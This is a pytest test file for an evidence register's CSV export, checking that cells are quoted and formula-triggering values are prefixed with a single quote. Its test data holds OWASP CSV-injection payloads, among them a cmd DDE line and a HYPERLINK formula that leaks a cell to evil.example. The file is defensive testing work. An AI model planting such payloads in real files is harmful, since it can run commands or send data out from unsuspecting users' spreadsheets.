"""The evidence register (data/register.csv) as a spreadsheet opens it: no cell runs as a formula
(OWASP's CSV-injection advice), every cell is quoted, and the exact value can be read back."""

import csv
import io
from pathlib import Path

import pytest

from evidence.models import ExportProfile, Role
from evidence.package import register
from evidence.services.packages import export_request
from tests.workers.helpers import archived_item
from tests.workers.test_exports import build, package_of

pytestmark = pytest.mark.django_db

# OWASP's payloads (https://owasp.org/www-community/attacks/CSV_Injection), and what the register holds
# for each: the same text behind one single quote, which a spreadsheet shows as text and never runs.
PAYLOADS = {
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")': (
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the report")'
    ),
}


@pytest.fixture
def lead(case_a, member_of):
    return member_of(case_a, Role.LEAD, username="prosecutor")


def written_register(bag: Path) -> tuple[bytes, list[list[str]]]:
    """The register's bytes as written (after the UTF-8 byte order mark, which every register begins with),
    and its rows as a CSV reader gets them (no newline translation: a carriage return inside a cell is part
    of the cell)."""
    raw = (bag / "data" / "register.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    raw = raw[3:]
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8"), newline="")))


def test_formula_payloads_in_titles_descriptions_and_sources_are_written_behind_a_single_quote(lead, case_a, tmp_path):
    items = {
        payload: archived_item(
            case_a, lead, f"file {number}".encode(), title=payload, description=payload, source=payload
        )
        for number, payload in enumerate(PAYLOADS)
    }
    export = build(export_request(actor=lead, case=case_a, evidence=list(items.values())))
    _, rows = written_register(package_of(export, tmp_path)[1])

    by_ern = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert len(by_ern) == len(PAYLOADS)
    for payload, item in items.items():
        row = by_ern[item.ern]
        assert (row["Title"], row["Description"], row["Source"]) == (PAYLOADS[payload],) * 3, payload


def test_formula_payloads_in_profile_column_names_are_written_behind_a_single_quote(lead, case_a, tmp_path):
    columns = [{"column": "ERN", "field": "ern"}] + [{"column": payload, "field": "title"} for payload in PAYLOADS]
    ExportProfile.objects.create(name="hostile-columns", columns=columns)
    item = archived_item(case_a, lead, b"photo", title="Killings on Yablunska Street")
    export = build(export_request(actor=lead, case=case_a, evidence=[item], profile="hostile-columns"))
    _, rows = written_register(package_of(export, tmp_path)[1])

    # The exculpatory column (art. 67(2)) is in every register, whatever the profile names.
    assert rows[0] == ["ERN", *PAYLOADS.values(), "Exculpatory (art. 67(2))"]
    assert rows[1] == [item.ern, *["Killings on Yablunska Street"] * len(PAYLOADS), "no"]


def test_every_cell_of_the_written_register_is_quoted(lead, case_a, tmp_path):
    item = archived_item(case_a, lead, b"photo", title='He said "stop", then =1+1', source="Kyiv, Bucha")
    ExportProfile.objects.create(
        name="three",
        columns=[
            {"column": "ERN", "field": "ern"},
            {"column": "Title", "field": "title"},
            {"column": "Size", "field": "size_bytes"},
        ],
    )
    export = build(export_request(actor=lead, case=case_a, evidence=[item], profile="three"))
    raw, rows = written_register(package_of(export, tmp_path)[1])

    assert raw.decode("utf-8") == (
        f'"ERN","Title","Size","Exculpatory (art. 67(2))"\r\n"{item.ern}","He said ""stop"", then =1+1","5","no"\r\n'
    )
    assert rows == [
        ["ERN", "Title", "Size", "Exculpatory (art. 67(2))"],
        [item.ern, 'He said "stop", then =1+1', "5", "no"],
    ]


def test_a_value_that_begins_with_a_single_quote_gets_one_more_so_every_cell_reads_back_exactly(lead, case_a, tmp_path):
    quoted = archived_item(case_a, lead, b"one", title="'=1+1", description="'Tis the season", source="=1+1")
    export = build(export_request(actor=lead, case=case_a, evidence=[quoted]))
    _, rows = written_register(package_of(export, tmp_path)[1])
    row = dict(zip(*rows, strict=True))

    assert (row["Title"], row["Description"], row["Source"]) == ("''=1+1", "''Tis the season", "'=1+1")
    # What VERIFY.txt tells a reader: a cell that begins with a single quote had one put in front.
    exact = {name: value[1:] if value.startswith("'") else value for name, value in row.items()}
    assert (exact["Title"], exact["Description"], exact["Source"]) == ("'=1+1", "'Tis the season", "=1+1")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Killings on Yablunska Street", "Killings on Yablunska Street"),
        ("2022-03-04T10:15:00+02:00", "2022-03-04T10:15:00+02:00"),
        ("-33.918861, 18.423300", "'-33.918861, 18.423300"),
        (" =1+1", "' =1+1"),  # a spreadsheet told to trim spaces would see =1+1
        ("Kyiv =1", "Kyiv =1"),
        ("", ""),
        ("=", "'="),
        ("'", "''"),
        ("\n=1", "'\n=1"),
        ("\ttext", "'\ttext"),
    ],
)
def test_spreadsheet_safe_changes_only_cells_that_begin_with_a_formula_trigger_or_a_quote(value, cell):
    assert register.spreadsheet_safe(value) == cell
